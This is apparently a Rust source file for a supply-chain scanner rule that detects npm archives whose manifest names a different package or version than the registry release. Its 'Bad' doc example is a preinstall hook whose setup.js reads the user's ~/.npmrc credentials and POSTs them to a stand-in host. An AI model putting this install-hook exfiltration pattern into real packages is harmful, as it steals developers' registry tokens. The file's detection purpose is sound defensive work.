//! # The manifest names another release than the registry
//!
//! The name or version in the archive's manifest is not the one that the release was asked for by.
//!
//! ## Why it matters
//!
//! The registry keeps a manifest of its own beside the archive and never compares them. Reviewers see the one, package
//! managers run the other.
//!
//! ## Known benign uses
//!
//! Archives that were packed by hand, and very old releases. So it never decides alone.
//!
//! ## Bad
//!
//! ```package as left-pad@1.3.0
//! == package.json //~ 1
//! {"name": "pad-helper", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! ```
//!
//! ## Good
//!
//! ```package as left-pad@1.3.0
//! == package.json
//! {"name": "left-pad", "version": "v1.3.0+build.5", "main": "index.js"}
//! == index.js
//! module.exports = (text, length) => text.padStart(length);
//! ```
//!
//! ## References
//!
//! - Clarke: The massive bug at the heart of the npm ecosystem (June 2023)

use stockade_model::Version;

use crate::prelude::*;

/// The manifest names another release than the registry.
pub struct ManifestNameDiffers;

impl Rule for ManifestNameDiffers {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "manifest-name-differs",
            title: "The manifest names another release than the registry",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::Medium,
            technique: "T1036",
            covers: &["manifest-confusion"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let context = facts.context();
        let (Some(asked), Some(manifest)) = (&context.release, facts.manifest()) else { return };
        if context.origin != Origin::RegistryDependency {
            return;
        }
        let name = manifest.name.as_deref().unwrap_or_default();
        let version = manifest.version.as_deref().and_then(|version| version.parse::<Version>().ok());
        let is_other = |(is, asked): (&Version, &Version)| without_build(is) != without_build(asked);
        let is_other_version = version.as_ref().zip(asked.version.as_ref()).is_some_and(is_other);
        if name.eq_ignore_ascii_case(asked.name.as_str()) && !is_other_version {
            return;
        }
        let own = version.map_or_else(|| name.to_owned(), |version| format!("{name}@{version}"));
        let does = format!("calls itself `{}` and not `{asked}`", excerpt(&own, 120));
        found.in_manifest(&["name"], &does);
    }
}

fn without_build(version: &Version) -> &str {
    version.as_str().split('+').next().unwrap_or_default()
}
